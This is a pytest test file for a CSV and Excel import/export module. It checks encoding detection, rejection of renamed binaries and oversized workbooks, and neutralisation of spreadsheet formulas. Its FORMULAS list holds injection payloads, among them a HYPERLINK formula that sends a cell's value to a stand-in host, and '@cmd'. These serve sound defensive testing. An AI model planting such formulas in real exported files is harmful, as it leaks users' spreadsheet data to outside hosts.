"""Reading and writing tables: sniffing, encodings, limits, formula safety (C3, C5)."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from datetime import date
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from engage.imports import tabular
from engage.imports.tabular import FORMULA_TRIGGERS
from engage.imports.tabular import TableError
from engage.imports.tabular import neutralise
from engage.imports.tabular import read_grid
from engage.imports.tabular import read_table
from engage.imports.tabular import restore
from engage.imports.tabular import write_csv
from engage.imports.tabular import write_xlsx
from tests.imports.workbooks import expanding_workbook

#: Files and text only: the SQLite run alone runs these.
pytestmark = pytest.mark.pure

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "imports"

#: Names a spreadsheet would run, and a phone number it would mangle (security C3).
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    "+SUM(1,1)",
    "-2+3",
    "@cmd",
    "\t=1",
    "\r=1",
    "+447700900123",
]
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06"


def _csv(text: str, *, encoding: str = "utf-8") -> io.BytesIO:
    return io.BytesIO(text.encode(encoding))


def _zip_bytes(**members: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _xlsx(rows: list[list[object]]) -> io.BytesIO:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# Reading CSV ------------------------------------------------------------------------


def test_read_csv_numbers_rows_as_a_spreadsheet_does() -> None:
    table = read_table(_csv("Name,Group\nA,public\n\nB,clinical\n"), "x.csv")
    assert table.columns == ("name", "group")
    assert [(row.number, row.values["name"]) for row in table.rows] == [
        (2, "A"),
        (4, "B"),
    ]


def test_read_csv_normalises_column_names() -> None:
    table = read_table(_csv(" Start Date ,due-date\n2012-01-01,\n"), "x.csv")
    assert table.columns == ("start_date", "due_date")


def test_read_csv_counts_rows_of_quoted_line_breaks_once() -> None:
    table = read_table(_csv('name,notes\nA,"two\nlines"\nB,x\n'), "x.csv")
    assert [row.number for row in table.rows] == [2, 3]
    assert table.rows[0].values["notes"] == "two\nlines"


def test_read_csv_flags_cells_beyond_the_named_columns() -> None:
    table = read_table(_csv("name,group\nSmith, John,public\n"), "x.csv")
    assert table.rows[0].extra_cells == 1


def test_read_csv_accepts_utf8_with_a_byte_order_mark() -> None:
    with (FIXTURES / "audiences-utf8-bom.csv").open("rb") as source:
        table = read_table(source, "audiences.csv")
    assert table.columns[0] == "audience"
    assert table.rows[0].values["audience"] == "Café owners £"


def test_read_csv_falls_back_to_windows_1252() -> None:
    with (FIXTURES / "audiences-cp1252.csv").open("rb") as source:
        table = read_table(source, "audiences.csv")
    assert table.rows[0].values["audience"] == "Café owners £"
    assert table.rows[0].values["notes"] == "Pay £5 for tea"


def test_read_csv_ignores_a_bom_before_windows_1252_text() -> None:
    source = io.BytesIO(b"\xef\xbb\xbfname\r\nCaf\xe9\r\n")
    assert read_table(source, "x.csv").rows[0].values == {"name": "Café"}


def test_read_csv_rejects_text_in_no_known_encoding() -> None:
    with pytest.raises(TableError, match="encoding is not recognised"):
        read_table(io.BytesIO(b"name\r\n\x81\x8d\x8f\r\n"), "x.csv")


def test_read_csv_rejects_utf16_with_advice() -> None:
    with pytest.raises(TableError, match="UTF-16"):
        read_table(io.BytesIO("name\nA\n".encode("utf-16")), "x.csv")


def test_read_csv_rejects_a_png_renamed_csv() -> None:
    with pytest.raises(TableError, match="PNG image"):
        read_table(io.BytesIO(PNG), "audiences.csv")


def test_read_csv_rejects_a_zip_renamed_csv() -> None:
    with pytest.raises(TableError, match="ZIP archive"):
        read_table(io.BytesIO(_zip_bytes(a="b")), "audiences.csv")


def test_read_csv_rejects_other_binary_data() -> None:
    with pytest.raises(TableError, match="binary data"):
        read_table(io.BytesIO(b"name\n\x00\x01\x02\x03"), "audiences.csv")


def test_read_csv_rejects_an_empty_file() -> None:
    with pytest.raises(TableError, match="empty"):
        read_table(io.BytesIO(b"  \r\n"), "x.csv")


def test_read_csv_rejects_a_repeated_column() -> None:
    with pytest.raises(TableError, match="“name” appears more than once"):
        read_table(_csv("name,Name\na,b\n"), "x.csv")


def test_read_csv_rejects_a_header_without_names() -> None:
    with pytest.raises(TableError, match="column names"):
        read_table(_csv(",,\na,b,c\n"), "x.csv")


def test_read_csv_reports_a_cell_too_long_to_read_by_row_number() -> None:
    huge = "x" * 200_000  # longer than the csv module's field limit
    with pytest.raises(TableError, match="Row 2 has a cell of more than"):
        read_table(_csv(f'name\n"{huge}"\n'), "x.csv")


def test_read_csv_stops_at_the_row_limit() -> None:
    rows = "".join(f"a{n}\n" for n in range(11))
    with pytest.raises(TableError, match="more than 10 rows"):
        read_table(_csv("name\n" + rows), "x.csv", max_rows=10)


class _CountingReader(io.RawIOBase):
    """A file wrapper that counts the bytes read through it."""

    def __init__(self, raw: io.BufferedReader) -> None:
        self.raw = raw
        self.bytes_read = 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        return self.raw.seek(offset, whence)

    def readinto(self, buffer: bytearray) -> int:
        count = self.raw.readinto(buffer)
        self.bytes_read += count
        return count


def test_read_csv_refuses_a_million_rows_without_reading_them_all(
    tmp_path: Path,
) -> None:
    path = tmp_path / "huge.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write("audience,group,approach\n")
        for n in range(1_000_000):
            out.write(f"Audience {n},public,inform\n")
    started = time.monotonic()
    with path.open("rb") as raw:
        counting = _CountingReader(raw)
        with pytest.raises(TableError, match="more than 50,000 rows"):
            read_table(counting, "huge.csv")
    assert time.monotonic() - started < 10
    assert counting.bytes_read < path.stat().st_size / 5


def test_read_table_refuses_other_extensions() -> None:
    with pytest.raises(TableError, match=r"\(\.csv\) or an Excel workbook"):
        read_table(_csv("name\nA\n"), "audiences.txt")


# Reading XLSX -----------------------------------------------------------------------


def test_read_xlsx_reads_text_numbers_and_dates() -> None:
    source = _xlsx(
        [
            ["Action", "Influence", "Due date", "Ratio"],
            ["Website", 4, datetime(2012, 7, 31), 0.5],
            [None, None, None, None],
            ["Twitter", 4.0, date(2012, 6, 1), True],
        ]
    )
    table = read_table(source, "plan.xlsx")
    assert table.columns == ("action", "influence", "due_date", "ratio")
    assert [(row.number, row.values) for row in table.rows] == [
        (
            2,
            {
                "action": "Website",
                "influence": "4",
                "due_date": "2012-07-31",
                "ratio": "0.5",
            },
        ),
        (
            4,
            {
                "action": "Twitter",
                "influence": "4",
                "due_date": "2012-06-01",
                "ratio": "TRUE",
            },
        ),
    ]


def test_read_xlsx_keeps_the_time_of_a_datetime() -> None:
    source = _xlsx([["when"], [datetime(2012, 7, 31, 9, 30)]])
    assert read_table(source, "x.xlsx").rows[0].values == {
        "when": "2012-07-31 09:30:00"
    }


def _with_saved_results(
    content: bytes, results: dict[str, str], *, text: bool = False
) -> bytes:
    """The workbook with each formula's result saved, as Excel saves it (``text``:
    as a text result)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    kind = ' t="str"' if text else ""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                sheet = data.decode()
                for formula, result in results.items():
                    sheet = sheet.replace(
                        f"><f>{formula}</f><v />",
                        f"{kind}><f>{formula}</f><v>{result}</v>",
                    )
                data = sheet.encode()
            archive.writestr(item, data)
    return buffer.getvalue()


def test_read_xlsx_refuses_formulas_whose_result_is_not_saved() -> None:
    # A workbook written by a program holds the formulas alone: read as results,
    # they would be empty cells, and the figures lost without a word.
    source = _xlsx([["name", "reach"], ["Bulletin", "=2+3"], ["Web", 40]])
    with pytest.raises(TableError, match=r"Cell B2 holds a formula whose result"):
        read_table(source, "plan.xlsx")


def test_read_xlsx_reads_the_saved_result_of_a_formula() -> None:
    content = _xlsx([["name", "reach"], ["Bulletin", "=2+3"]]).getvalue()
    table = read_table(io.BytesIO(_with_saved_results(content, {"2+3": "5"})), "a.xlsx")
    assert table.rows[0].values == {"name": "Bulletin", "reach": "5"}


def test_read_xlsx_reads_a_formula_whose_saved_result_is_empty_text() -> None:
    content = _xlsx([["name", "note"], ["Bulletin", '=""']]).getvalue()
    saved = _with_saved_results(content, {'""': ""}, text=True)
    table = read_table(io.BytesIO(saved), "a.xlsx")
    assert table.rows[0].values == {"name": "Bulletin", "note": ""}


def test_read_xlsx_stops_at_the_row_limit() -> None:
    source = _xlsx([["name"], *[[f"a{n}"] for n in range(11)]])
    with pytest.raises(TableError, match="more than 10 rows"):
        read_table(source, "x.xlsx", max_rows=10)


def test_read_xlsx_rejects_a_csv_renamed_xlsx() -> None:
    with pytest.raises(TableError, match=r"not an Excel workbook \(\.xlsx\)"):
        read_table(_csv("name\nA\n"), "audiences.xlsx")


def test_read_xlsx_rejects_a_zip_that_is_not_a_workbook() -> None:
    with pytest.raises(TableError, match="not an Excel workbook"):
        read_table(io.BytesIO(_zip_bytes(**{"notes.txt": "hello"})), "a.xlsx")


def test_read_xlsx_rejects_a_damaged_workbook() -> None:
    broken = _zip_bytes(
        **{"xl/workbook.xml": "<not a workbook", "[Content_Types].xml": ""}
    )
    with pytest.raises(TableError, match="not an Excel workbook"):
        read_table(io.BytesIO(broken), "a.xlsx")


def test_read_xlsx_rejects_a_truncated_workbook() -> None:
    content = _xlsx([["name"], ["A"]]).getvalue()
    with pytest.raises(TableError, match="not an Excel workbook"):
        read_table(io.BytesIO(content[: len(content) // 2]), "a.xlsx")


def test_read_xlsx_refuses_a_workbook_of_too_many_cells() -> None:
    # 49,000 rows of 268 numbers: under the row limit, 197 MB once expanded.
    content = expanding_workbook(49_000, 268)
    assert len(content) < 2_000_000
    with pytest.raises(TableError, match="too large or too complex"):
        read_table(io.BytesIO(content), "survey.xlsx")


def test_read_xlsx_gives_up_at_the_time_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tabular, "XLSX_SECONDS", 0.001)
    with pytest.raises(TableError, match="too large or too complex"):
        read_table(_xlsx([["name"], ["A"]]), "a.xlsx")


def test_read_xlsx_reads_a_workbook_within_the_limits() -> None:
    grid = read_grid(io.BytesIO(expanding_workbook(1_000, 300)), "a.xlsx")
    assert len(grid) == 1_000
    assert grid[-1] == (1_000, ["1"] * 300)


@pytest.mark.parametrize("cell", ["\x00", "a\x00b", "\x1b[31m", "\x07"])
def test_a_control_character_anywhere_refuses_the_file(cell: str) -> None:
    # Far past the first 8 KB the binary check reads.
    text = "name,group,approach\n" + "Audience,public,inform\n" * 1_000
    text += f"{cell},public,inform\n"
    with pytest.raises(TableError, match="Row 1,002 holds a control character"):
        read_table(_csv(text), "audiences.csv")
    with pytest.raises(TableError, match="Row 1,002 holds a control character"):
        read_grid(_csv(text), "audiences.csv")


def test_read_xlsx_rejects_an_empty_worksheet() -> None:
    with pytest.raises(TableError, match="worksheet is empty"):
        read_table(_xlsx([]), "a.xlsx")


# Formula safety (C3) ----------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_neutralise_prefixes_a_quote_to_formula_triggers(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["GPs", "", "'quoted", "a=b", "07700 900123", None])
def test_neutralise_leaves_other_text_alone(value: str | None) -> None:
    assert neutralise(value) == ("" if value is None else value)


def test_neutralise_escapes_a_quote_before_a_trigger_so_restore_is_exact() -> None:
    assert neutralise("'=1") == "''=1"
    assert restore("''=1") == "'=1"


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(value: str) -> None:
    assert restore(neutralise(value)) == value


def test_write_csv_neutralises_formula_cells() -> None:
    rows = _csv_cells(write_csv(["audience", "notes"], [[f, f] for f in FORMULAS]))
    assert rows[0] == ["audience", "notes"]
    for (name, notes), formula in zip(rows[1:], FORMULAS, strict=True):
        assert name == notes == "'" + formula


def test_a_csv_saved_with_semicolons_or_tabs_is_read_in_columns() -> None:
    """Excel saves CSV with semicolons where the comma is the decimal mark."""
    for separator in (";", "\t"):
        content = f"name{separator}notes\nYouth council{separator}Meets monthly\n"
        table = read_table(_csv(content), "saved.csv")
        assert list(table.columns) == ["name", "notes"]
        assert [list(row.values.values()) for row in table.rows] == [
            ["Youth council", "Meets monthly"]
        ]
    # A comma in the first line: commas separate, whatever else the cells hold.
    table = read_table(_csv("name,notes\nA;B,C\n"), "x.csv")
    assert [list(row.values.values()) for row in table.rows] == [["A;B", "C"]]


def test_a_cell_too_long_to_read_is_named_in_words() -> None:
    content = b"name,notes\nA," + b"x" * 200_000 + b"\n"
    with pytest.raises(TableError) as refused:
        read_table(io.BytesIO(content), "long.csv")
    message = str(refused.value)
    assert "Row 2 has a cell of more than 131,072 characters" in message
    assert "field limit" not in message
    assert "CSV UTF-8" not in message  # the file's encoding was not the problem


def test_write_csv_keeps_numbers_numbers_and_guards_text() -> None:
    """A negative number Engage worked out is a number, not text with a quote; text
    that looks like one (typed by someone) is still guarded."""
    content = write_csv(
        ["value"], [[-16.7], [-3], [0.5], ["-16.7"], ["-2+3"], [float("-inf")]]
    )
    lines = content.decode("utf-8-sig").split("\r\n")[1:-1]
    assert lines == ["-16.7", "-3", "0.5", "'-16.7", "'-2+3", "'-inf"]


def test_write_csv_quotes_quotes_commas_and_line_breaks() -> None:
    value = 'He said "hello, world"\nthen\r\nleft'
    content = write_csv(["notes"], [[value]])
    assert _csv_cells(content)[1] == [value]
    assert b'"He said ""hello, world""' in content


def test_write_csv_starts_with_a_bom_for_excel() -> None:
    assert write_csv(["name"], [["£"]]).startswith(b"\xef\xbb\xbf")


@given(st.text())
def test_write_csv_cells_never_start_with_a_trigger(value: str) -> None:
    rows = _csv_cells(write_csv(["notes"], [[value]]))
    assert rows[1] == [neutralise(value)]
    assert rows[1][0][:1] not in FORMULA_TRIGGERS


def test_write_xlsx_stores_formula_cells_as_quoted_text() -> None:
    content = write_xlsx(["audience"], [[f] for f in FORMULAS])
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
    workbook.close()
    assert len(cells) == len(FORMULAS)
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.value.startswith("'")


def test_write_xlsx_keeps_numbers_and_stores_error_codes_as_text() -> None:
    content = write_xlsx(["a", "b", "c", "d"], [[4, 2.5, "#N/A", float("nan")]])
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = next(iter(workbook.active.iter_rows(min_row=2)))
    workbook.close()
    assert [(c.value, c.data_type) for c in cells] == [
        (4, "n"),
        (2.5, "n"),
        ("#N/A", "s"),
        ("nan", "s"),
    ]


def test_write_xlsx_drops_characters_xml_cannot_hold() -> None:
    content = write_xlsx(["notes"], [["bell\x07 and nul\x00"]])
    table = read_table(io.BytesIO(content), "x.xlsx")
    assert table.rows[0].values == {"notes": "bell and nul"}


def test_xlsx_written_then_read_gives_back_the_same_text() -> None:
    values = [*FORMULAS[:4], "plain", "'quoted", "£5 café"]
    content = write_xlsx(["notes"], [[v] for v in values])
    table = read_table(io.BytesIO(content), "x.xlsx")
    assert [row.values["notes"] for row in table.rows] == values


def test_same_text_ignores_line_endings() -> None:
    from engage.imports.tabular import same_text

    assert same_text("one\r\ntwo\rthree", "one\ntwo\nthree")
    assert not same_text("one two", "one\ntwo")


def test_xlsx_keeps_a_leading_carriage_return_quoted() -> None:
    from engage.imports.tabular import same_text

    content = write_xlsx(["notes"], [["\r=1"], ["\nplain"]])
    table = read_table(io.BytesIO(content), "x.xlsx")
    values = [row.values["notes"] for row in table.rows]
    assert same_text(values[0], "\r=1")
    assert values[1] == "\nplain"
